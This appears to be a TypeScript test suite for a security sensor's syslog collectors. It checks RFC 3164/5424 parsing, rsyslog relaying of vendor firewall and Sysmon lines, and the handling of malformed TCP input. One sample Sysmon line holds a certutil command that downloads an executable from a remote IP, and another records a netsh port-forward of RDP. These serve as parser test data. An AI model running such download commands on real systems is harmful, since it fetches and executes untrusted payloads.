/**
 * Real senders against our collectors on loopback: util-linux `logger` over UDP and TCP in RFC 3164 and
 * RFC 5424 (with --octet-count and with LF framing), and rsyslogd (its own config, pid and work files,
 * high ports) relaying vendor lines (ASA, IOS ACL, SRX, PAN-OS, Fortinet, Sysmon key=value/JSON) to our
 * TCP listener with octet-counted and with traditional LF framing. Then bad input over TCP: binary
 * garbage, no PRI, invalid UTF-8, an overlong line, a sender that never sends LF, a half-open connection,
 * an idle connection; each counted by reason, never a crash or an unbounded buffer.
 */
import assert from 'node:assert/strict'
import { execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { test } from 'node:test'
import { Counters } from '../analytics/counters.js'
import type { FlowRecord, HostEvent, SensorEvent, SyslogEvent } from '../analytics/events.js'
import { startSyslogTcp } from '../sensor/collectors/syslog-tcp.js'
import { startSyslogUdp } from '../sensor/collectors/syslog-udp.js'
import { SyslogIngest } from '../sensor/syslog-ingest.js'
import { haveCommand } from './helpers/have-command.js'

const have = haveCommand

function sink() {
  const events: SensorEvent[] = []
  const counters = new Counters()
  const ingest = new SyslogIngest({ emit: (e) => events.push(e), counters, source: 'syslog-test' })
  return { events, counters, ingest }
}

async function waitFor(cond: () => boolean, ms = 8000): Promise<void> {
  const end = Date.now() + ms
  while (!cond()) {
    if (Date.now() > end) throw new Error('Timed out waiting for the condition.')
    await new Promise((r) => setTimeout(r, 20))
  }
}

const logger = (args: string[], input?: string) =>
  execFileSync('logger', args, { stdio: ['pipe', 'ignore', 'pipe'], ...(input !== undefined ? { input } : {}) })

const syslogs = (ev: SensorEvent[]) => ev.filter((e): e is SyslogEvent => e.kind === 'syslog')

test('logger over UDP and TCP, RFC 3164 and 5424, octet-counted and LF', {
  skip: have('logger') ? false : 'logger not installed',
}, async () => {
  const s = sink()
  const udp = await startSyslogUdp({ host: '127.0.0.1', port: 0, ingest: s.ingest })
  const tcp = await startSyslogTcp({ host: '127.0.0.1', port: 0, ingest: s.ingest, counters: s.counters })
  try {
    const u = String(udp.address.port)
    const t = String(tcp.address.port)
    logger([
      '-n',
      '127.0.0.1',
      '-P',
      u,
      '-d',
      '--rfc3164',
      '-t',
      'app3164',
      '-p',
      'local4.warning',
      'udp three one six four',
    ])
    logger([
      '-n',
      '127.0.0.1',
      '-P',
      u,
      '-d',
      '--rfc5424',
      '-t',
      'app5424',
      '--msgid',
      'M1',
      '--sd-id',
      'test@32473',
      '--sd-param',
      'k="v \\"q\\""',
      'udp five four two four',
    ])
    logger(['-n', '127.0.0.1', '-P', t, '-T', '--rfc5424', '--octet-count', '-t', 'oc', 'tcp octet counted'])
    logger(['-n', '127.0.0.1', '-P', t, '-T', '--rfc3164', '-t', 'lf', 'tcp lf framed'])
    logger(
      ['-n', '127.0.0.1', '-P', t, '-T', '--rfc5424', '--octet-count', '-t', 'multi'],
      'first line\nsecond line\nthird line\n',
    )
    await waitFor(() => syslogs(s.events).length >= 7)
    const ev = syslogs(s.events)
    const by = (m: string) => ev.find((e) => e.message.includes(m))
    const a = by('udp three one six four')
    assert.equal(a?.format, 'rfc3164')
    assert.equal(a?.app_name, 'app3164')
    assert.equal(a?.facility, 20)
    assert.equal(a?.severity, 4)
    assert.equal(a?.peer, '127.0.0.1')
    const b = by('udp five four two four')
    assert.equal(b?.format, 'rfc5424')
    assert.equal(b?.msg_id, 'M1')
    assert.equal(b?.structured_data?.['test@32473']?.k, 'v "q"')
    assert.equal(by('tcp octet counted')?.app_name, 'oc')
    assert.equal(by('tcp lf framed')?.app_name, 'lf')
    assert.deepEqual(
      ev.filter((e) => e.app_name === 'multi').map((e) => e.message),
      ['first line', 'second line', 'third line'],
    )
    assert.deepEqual(s.counters.family('syslog_errors_total'), {})
  } finally {
    await udp.close()
    await tcp.close()
  }
})

const VENDOR_LINES = [
  '%ASA-6-302013: Built outbound TCP connection 88 for outside:198.51.100.80/79 (198.51.100.80/79) to inside:10.1.1.5/51515 (203.0.113.2/51515)',
  '%ASA-6-302014: Teardown TCP connection 88 for outside:198.51.100.80/79 to inside:10.1.1.5/51515 duration 0:00:04 bytes 9000 TCP FINs',
  '%SEC-6-IPACCESSLOGP: list ACL-OUT permitted tcp 10.1.1.6(50001) -> 198.51.100.69(69), 1 packet',
  'RT_FLOW_SESSION_CLOSE: session closed TCP FIN: 10.1.1.7/51516->198.51.100.80/80 junos-http 203.0.113.2/21000->198.51.100.80/80 None None 6 p1 trust untrust 40001 12(1234) 40(5242880) 30 HTTP UNKNOWN N/A(N/A) ge-0/0/0.0 No',
  '1,2024/03/04 10:00:40,016401002737,TRAFFIC,end,2561,2024/03/04 10:00:40,10.1.1.8,198.51.100.80,203.0.113.2,198.51.100.80,allow-web,,,web-browsing,vsys1,trust,untrust,eth1,eth2,fwd,2024/03/04 10:00:40,33333,1,51517,80,1,80,0x19,tcp,allow,2100000,100000,2000000,1500,2024/03/04 10:00:28,12,any,0,1,0x0,10.0.0.0-10.255.255.255,US,0,500,1000,tcp-fin',
  'date=2019-05-10 time=11:37:47 type="traffic" subtype="forward" srcip=10.1.100.11 srcport=58012 dstip=23.59.154.35 dstport=80 proto=6 action="close" service="HTTP" duration=116 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16',
  'EventID=1 SourceName=Microsoft-Windows-Sysmon Computer=ws09.corp.example User=CORP\\dave Image=C:\\Windows\\System32\\certutil.exe CommandLine="certutil -urlcache -split -f http://198.51.100.7/p.exe p.exe"',
  '{"EventID":13,"SourceName":"Microsoft-Windows-Sysmon","Hostname":"ws10.corp.example","Image":"C:\\\\Windows\\\\system32\\\\netsh.exe","TargetObject":"HKLM\\\\SYSTEM\\\\CurrentControlSet\\\\Services\\\\PortProxy\\\\v4tov4\\\\tcp\\\\0.0.0.0/3389","Details":"203.0.113.50/3389"}',
]

test('rsyslogd relays vendor lines to our TCP listener, octet-counted and LF-framed', {
  skip: have('rsyslogd') && have('logger') ? false : 'rsyslogd or logger not installed',
}, async () => {
  const octet = sink()
  const lf = sink()
  const a = await startSyslogTcp({ host: '127.0.0.1', port: 0, ingest: octet.ingest, counters: octet.counters })
  const b = await startSyslogTcp({ host: '127.0.0.1', port: 0, ingest: lf.ingest, counters: lf.counters })
  const dir = mkdtempSync(path.join(tmpdir(), 'isyslog-'))
  const inPort = 20000 + Math.floor(Math.random() * 20000)
  writeFileSync(
    path.join(dir, 'rsyslog.conf'),
    [
      `global(workDirectory="${dir}" maxMessageSize="64k")`,
      'module(load="imudp")',
      `input(type="imudp" address="127.0.0.1" port="${inPort}")`,
      `*.* action(type="omfwd" target="127.0.0.1" port="${a.address.port}" protocol="tcp" TCP_Framing="octet-counted" template="RSYSLOG_SyslogProtocol23Format")`,
      `*.* action(type="omfwd" target="127.0.0.1" port="${b.address.port}" protocol="tcp" TCP_Framing="traditional" template="RSYSLOG_ForwardFormat")`,
      '',
    ].join('\n'),
  )
  const rs = spawn('rsyslogd', ['-n', '-f', path.join(dir, 'rsyslog.conf'), '-i', path.join(dir, 'rsyslogd.pid')], {
    stdio: 'ignore',
  })
  try {
    // Probe until rsyslog is up and relaying (its UDP input drops messages sent before it binds).
    await waitFor(() => {
      logger(['-n', '127.0.0.1', '-P', String(inPort), '-d', '--rfc3164', '-t', 'probe', 'ready?'])
      return syslogs(octet.events).length > 0 && syslogs(lf.events).length > 0
    }, 15000)
    for (const line of VENDOR_LINES) {
      logger(['-n', '127.0.0.1', '-P', String(inPort), '-d', '--rfc3164', '-t', 'dev01', '--', line])
    }
    const done = (s: ReturnType<typeof sink>) => syslogs(s.events).filter((e) => e.app_name === 'dev01').length
    await waitFor(() => done(octet) >= VENDOR_LINES.length && done(lf) >= VENDOR_LINES.length)
    for (const s of [octet, lf]) {
      const flows = s.events.filter((e): e is FlowRecord => e.kind === 'flow')
      assert.deepEqual(flows.map((f) => `${f.orig_h}>${f.resp_h}:${f.resp_p}`).sort(), [
        '10.1.1.5>198.51.100.80:79',
        '10.1.1.6>198.51.100.69:69',
        '10.1.1.7>198.51.100.80:80',
        '10.1.1.8>198.51.100.80:80',
        '10.1.100.11>23.59.154.35:80',
      ])
      assert.ok(flows.every((f) => f.source_kind === 'syslog'))
      const hostEv = s.events.filter((e): e is HostEvent => e.kind === 'host')
      assert.deepEqual(hostEv.map((h) => `${h.event_id}@${h.host}`).sort(), [
        'sysmon:13@ws10.corp.example',
        'sysmon:1@ws09.corp.example',
      ])
      assert.deepEqual(s.counters.family('syslog_errors_total'), {})
    }
  } finally {
    rs.kill('SIGTERM')
    await new Promise((r) => rs.once('exit', r))
    await a.close()
    await b.close()
    rmSync(dir, { recursive: true, force: true })
  }
})

function send(port: number, data: Buffer[], end: 'end' | 'destroy' | 'keep' = 'end') {
  return new Promise<ReturnType<typeof connect>>((resolve) => {
    const c = connect(port, '127.0.0.1', () => {
      for (const d of data) c.write(d)
      if (end === 'end') c.end()
      else if (end === 'destroy') c.destroy()
      resolve(c)
    })
    c.on('error', () => undefined)
  })
}

test('bad input over TCP is counted by reason; buffers stay bounded; idle connections closed', async () => {
  const s = sink()
  const tcp = await startSyslogTcp({
    host: '127.0.0.1',
    port: 0,
    ingest: s.ingest,
    counters: s.counters,
    maxFrameBytes: 4096,
    idleTimeoutS: 0.3,
  })
  try {
    const port = tcp.address.port
    await send(port, [
      Buffer.concat([Buffer.from([0x3c, 0x31, 0x33, 0x3e, 1, 2, 3, 0xfe, 0xff, 4, 5, 6, 7, 8]), Buffer.from('\n')]),
      Buffer.from('no pri here at all\n'),
      Buffer.concat([Buffer.from('<13>Nov 21 10:00:00 h app: caf'), Buffer.from([0xe9]), Buffer.from('\n')]),
      Buffer.from(`<13>${'x'.repeat(10000)}\n`),
      Buffer.from('<13>Nov 21 10:00:00 h app: after the long one\n'),
    ])
    // A sender that never sends LF: 1 MiB in chunks, then closes.
    const big = await send(port, [], 'keep')
    for (let i = 0; i < 64; i++) big.write(Buffer.alloc(16384, 0x41))
    big.end()
    // Half-open: partial frame, then FIN; our side delivers the frame and closes.
    await send(port, [Buffer.from('<13>Nov 21 10:00:00 h app: half open tail')], 'end')
    // Idle: connects and says nothing.
    await send(port, [], 'keep')
    await waitFor(
      () =>
        s.counters.get('syslog_tcp_closed_total', 'idle_timeout') >= 1 &&
        s.counters.get('syslog_tcp_closed_total', 'peer_end') >= 3,
    )
    const err = s.counters.family('syslog_errors_total')
    assert.equal(err['syslog.not_text'], 1)
    assert.equal(err['syslog.pri_missing'], 1)
    assert.equal(err['syslog.invalid_utf8'], 1)
    assert.equal(err['syslog.frame_too_long'], 2)
    const msgs = syslogs(s.events).map((e) => e.message)
    assert.ok(msgs.includes('after the long one'))
    assert.ok(msgs.includes('half open tail'))
    assert.ok(msgs.includes('café'))
  } finally {
    await tcp.close()
  }
})
